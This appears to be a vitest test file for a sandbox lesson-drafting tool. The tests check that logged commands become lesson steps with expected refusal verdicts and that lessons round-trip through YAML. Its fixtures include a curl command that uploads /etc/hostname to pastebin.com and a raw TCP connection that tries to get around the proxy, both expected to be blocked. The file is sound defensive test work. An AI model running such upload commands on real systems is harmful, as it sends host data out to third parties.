import { describe, expect, it } from "vitest";
import { draftLesson, serializeLesson } from "./draft";
import { judgeStep } from "./judge";
import { parseLesson } from "./parse";
import { bypassRefused, dnsRefused, pastebinRefused, windowOf } from "./testing/windows";

describe("a draft lesson", () => {
  const windows = [pastebinRefused(), bypassRefused(), dnsRefused(), windowOf("echo hi", 0, [], "hi\n"), windowOf("   ", 0, [])];

  it("has one step per command, its expect filled from what the log recorded", () => {
    const lesson = draftLesson(windows, { title: "My demo" });
    expect(lesson.title).toBe("My demo");
    expect(lesson.steps.map((s) => s.run)).toEqual([
      "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
      "llrun --ro / --rw /tmp --connect 3128 -- tcpconnect 93.184.216.34 443",
      "nslookup example.com 10.0.2.2",
      "echo hi",
    ]);
    expect(lesson.steps.map((s) => s.expect)).toEqual([
      [{ verdict: "host-not-allowed", by: "proxy", target: "pastebin.com" }, { exit: 56 }],
      [{ kernel: "EACCES" }, { exit: 1 }],
      [{ dns: "example.com" }, { exit: 1 }],
      [{ exit: 0 }],
    ]);
    expect(lesson.steps[0]?.explain).toMatch(/^The proxy refused CONNECT pastebin.com:443/);
  });

  it("passes each of its own steps against the command it was drafted from", () => {
    const lesson = draftLesson(windows, { title: "My demo" });
    for (const [i, s] of lesson.steps.entries()) expect(judgeStep(s, windows[i]!).passed).toBe(true);
  });

  it("serialises to YAML that parses back to the same lesson, with the policy kept", () => {
    const lesson = draftLesson(windows, { title: "My demo", policy: { version: 1, hosts: [{ host: "example.com" }] } });
    expect(lesson.policy?.hosts).toEqual([{ host: "example.com" }]);
    const yaml = serializeLesson(lesson);
    expect(yaml.startsWith("lesson: 1\ntitle: My demo\npolicy:")).toBe(true);
    const parsed = parseLesson(yaml);
    expect(parsed.ok && parsed.lesson).toEqual(lesson);
  });

  it("refuses to draft from no command", () => {
    expect(() => draftLesson([windowOf("", 0, [])], { title: "x" })).toThrow(/no command to draft/);
  });
});
